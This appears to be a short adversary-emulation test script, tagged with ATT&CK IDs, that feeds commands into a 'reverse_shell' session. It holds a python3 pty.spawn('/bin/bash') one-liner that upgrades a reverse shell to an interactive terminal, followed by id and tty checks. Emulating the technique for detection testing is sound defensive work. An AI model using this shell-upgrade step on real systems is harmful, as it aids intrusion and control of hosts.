# The code from a here-document through "python3 -".
# ATT&CK: T1059.006, T1059.004
. ./session.sh
reverse_shell <<'TYPED'
python3 - <<EOF
import os, pty
os.dup2(2, 0)
pty.spawn("/bin/bash")
EOF
id
tty
exit
exit
TYPED
